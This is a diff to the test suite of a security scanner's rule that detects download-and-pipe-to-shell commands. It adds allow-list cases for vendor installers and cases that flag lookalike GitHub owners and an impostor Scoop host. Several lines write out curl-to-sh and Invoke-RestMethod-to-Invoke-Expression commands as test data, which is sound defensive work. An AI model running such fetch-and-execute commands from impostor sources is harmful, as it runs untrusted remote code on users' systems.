@@ -800,6 +800,14 @@ describe('download.pipe-shell: the installer allow-list counts only the fetched 
     expect(piped('curl -fsSL https://deno.land/install.sh | sh')).toBe(false);
     expect(piped('curl -fsSL https://awscli.amazonaws.com/install.sh | sh')).toBe(false);
     expect(piped('curl -fsSL -H "Accept: text/plain" https://tailscale.com/install.sh | sh')).toBe(false);
+    expect(piped('curl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash')).toBe(false);
+    expect(piped('curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin')).toBe(false);
+    expect(rulesOf(scanOne('scripts/setup.ps1', 'Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression\n').findings)).not.toContain('download.pipe-shell');
+  });
+  it('another owner on the same raw host is not the vendor', () => {
+    expect(piped('curl -fsSL https://raw.githubusercontent.com/helm-charts-mirror/x/main/get | bash')).toBe(true);
+    expect(piped('curl -fsSL https://raw.githubusercontent.com/aquasec/trivy/main/install.sh | sh')).toBe(true);
+    expect(rulesOf(scanOne('scripts/setup.ps1', 'Invoke-RestMethod -Uri https://get.scoop.sh.example.net | Invoke-Expression\n').findings)).toContain('download.pipe-shell');
   });
 });
 
